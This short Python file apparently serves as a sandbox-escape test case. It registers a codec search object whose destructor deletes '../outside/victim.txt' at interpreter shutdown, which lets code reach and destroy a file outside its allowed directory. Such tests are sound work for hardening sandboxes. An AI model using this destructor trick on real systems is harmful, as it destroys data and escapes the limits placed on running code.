# A search function for codecs outlives the modules.
# status: any
# damage: deleted
import codecs
import posix


class Search:
    def __call__(self, name):
        pass

    def __del__(self, unlink=posix.unlink):
        unlink("../outside/victim.txt")


codecs.register(Search())
